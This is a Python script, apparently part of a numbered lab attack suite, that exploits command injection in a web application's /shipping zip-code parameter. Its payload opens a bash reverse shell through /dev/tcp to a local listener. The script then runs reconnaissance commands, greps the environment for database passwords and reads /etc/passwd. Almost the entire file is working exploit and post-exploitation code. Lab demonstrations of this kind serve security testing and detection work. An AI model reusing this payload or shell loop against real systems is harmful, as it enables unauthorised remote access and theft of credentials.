#!/usr/bin/env python3
"""Attack 3 — command injection with a reverse shell, from outside.

catalogue's /shipping hands the zip code to a shell. The attacker listens on a port of their own (127.0.0.1:4444,
outside the application), sends a zip code that starts `bash -i` connected back to it, and types commands into
that shell: who am I, where am I, what secrets are around (the database password from the environment).
Succeeds when the shell connected back and answered `id`.

  3-command-injection.py [--port 4444]
"""

import argparse
import socket
import threading
import time
import urllib.parse
import urllib.request

from _common import URL, Attack, log

COMMANDS = ["id", "uname -a", "pwd", "ls -la", "env | grep -i -E 'pg|dsn|pass' | head", "cat /etc/passwd | head -5",
            "ps aux | head -20", "exit"]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, default=4444)
    a = ap.parse_args()
    with Attack("command-injection") as atk:
        listener = socket.socket()
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind(("127.0.0.1", a.port))
        listener.listen(1)
        listener.settimeout(20)
        payload = f"10115; setsid bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/{a.port} 0>&1' >/dev/null 2>&1 &"
        url = f"{URL}/shipping?" + urllib.parse.urlencode({"zip": payload})
        threading.Thread(target=lambda: urllib.request.urlopen(url, timeout=20).read(), daemon=True).start()
        conn, peer = listener.accept()
        log(f"reverse shell connected from {peer[0]}:{peer[1]}")
        conn.settimeout(0.5)
        transcript = b""
        for cmd in COMMANDS:
            conn.sendall(cmd.encode() + b"\n")
            time.sleep(0.6)  # a (quick) human at the keyboard
            try:
                while True:
                    chunk = conn.recv(65536)
                    if not chunk:
                        break
                    transcript += chunk
            except socket.timeout:
                pass
        conn.close()
        listener.close()
        text = transcript.decode(errors="replace")
        uid = next((l for l in text.splitlines() if "uid=" in l), "")
        log(f"shell transcript: {len(transcript)} bytes; id -> {uid.strip()[:80]}")
        atk.detail = {"peer": f"{peer[0]}:{peer[1]}", "id": uid.strip()[:120], "transcript_bytes": len(transcript),
                      "stole_db_password": "LAB_PG_DSN" in text}
        atk.ok = "uid=" in text


if __name__ == "__main__":
    main()
